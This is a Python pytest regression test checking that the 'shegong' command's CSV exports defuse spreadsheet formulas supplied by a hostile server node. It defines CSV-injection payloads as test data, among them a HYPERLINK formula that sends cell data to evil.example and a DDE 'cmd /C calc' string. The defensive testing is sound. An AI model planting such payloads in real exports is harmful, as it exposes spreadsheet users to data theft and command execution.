"""The ``shegong`` command's CSV files hold no formula a node named (round 13).

The services quote a cell a spreadsheet would run (``=``, ``+``, ``-``, ``@``, tab, CR)
in their own exports, but the command wrote the indicator CSVs it builds itself
(``report workforce|training|services --format csv``) with the names and values a node
answered as they came, and ``census export -o`` / ``matching export-hours --out`` as the
node sent them: a node the user was pointed at (``--url``: a department's own) answering
``=HYPERLINK("https://evil.example/?"&B2, "详情")`` had it run in the user's Excel.

Real processes: the ``shegong`` command and an HTTP server answering as such a node."""

from __future__ import annotations

import csv
import http.server
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from .conftest import answer_json, serving
from .test_hostile_node import shegong

RUN = '=HYPERLINK("https://evil.example/?"&B2,"详情")'
BAD = [RUN, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

WORKFORCE = {"year": 2024, **{bad: 1 for bad in BAD}, "by_level": {RUN: 2, "senior": -1}}
TRAINING: dict[str, Any] = {
    "labels_zh": {
        k: RUN
        for k in (
            "sessions",
            "person_times",
            "trainees",
            "hours",
            "session_hours",
            "prejob_coverage",
            "examprep_pass_rate",
        )
    },
    **{k: RUN for k in ("sessions", "person_times", "trainees", "hours", "session_hours")},
    "by_kind": {RUN: {"label_zh": "@SUM(1)", "sessions": "-1", "person_times": 1}},
    "by_tier": {},
    "prejob_coverage": {"value": RUN, "numerator": 1, "denominator": 2},
    "examprep_pass_rate": {"value": 0.5, "numerator": 1, "denominator": 2},
}
SERVICES: dict[str, Any] = {
    "requests": RUN,
    "by_target_group": {RUN: {"label_zh": "@x", "requests": "+1"}},
    "by_service_type": {},
    "acceptance_rate": None,
    "time_to_accept_s": {"median": None, "p90": None},
    "escalation_rate": {RUN: None},
    "completion_rate": None,
    "follow_up_coverage": None,
    "mean_satisfaction": None,
    "hours": {"volunteer": None, "total": None},
    "programme_attendance": {"check_ins": RUN},
}
CSV_ROWS = "\ufeff姓名 name,单位 organization\r\n" + "".join(
    f'"{bad.replace(chr(34), chr(34) * 2)}",ok\r\n' for bad in BAD
)


@pytest.fixture
def node() -> Iterator[str]:
    class Answer(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            path = self.path.split("?")[0]
            if path in ("/census/export", "/hours/export.csv"):
                raw = CSV_ROWS.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/csv; charset=utf-8")
                self.send_header("Content-Length", str(len(raw)))
                self.end_headers()
                self.wfile.write(raw)
                return
            answers = {
                "/indicators/workforce": WORKFORCE,
                "/indicators/training": TRAINING,
                "/indicators/services": SERVICES,
            }
            answer_json(self, 200, answers[path])

        def log_message(self, *_: object) -> None: ...

    with serving(http.server.ThreadingHTTPServer(("127.0.0.1", 0), Answer)) as url:
        yield url


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]


@pytest.mark.parametrize(
    "command",
    [
        ("report", "workforce", "--year", "2024", "--format", "csv"),
        ("report", "training", "--year", "2024", "--format", "csv"),
        ("report", "services", "--year", "2024", "--format", "csv"),
        ("census", "export", "--format", "csv", "-o", "{out}"),
        ("matching", "export-hours", "--out", "{out}"),
    ],
)
def test_no_cell_a_node_names_runs_as_a_formula(
    node: str, tmp_path: Path, command: tuple[str, ...]
) -> None:
    written = tmp_path / "out.csv"
    args = [part.replace("{out}", str(written)) for part in command]
    code, out, err = shegong(node, tmp_path, *args)
    assert code == 0, out + err
    text = written.read_text(encoding="utf-8") if "{out}" in command else out
    shown = cells(text)
    assert RUN in {c.removeprefix("'") for c in shown}, text  # what the node said, as text
    assert not [c for c in shown if c.startswith(FORMULA_START) and c != "-1"], text
    if command[1] == "workforce":
        assert "-1" in shown  # a negative figure stays a number
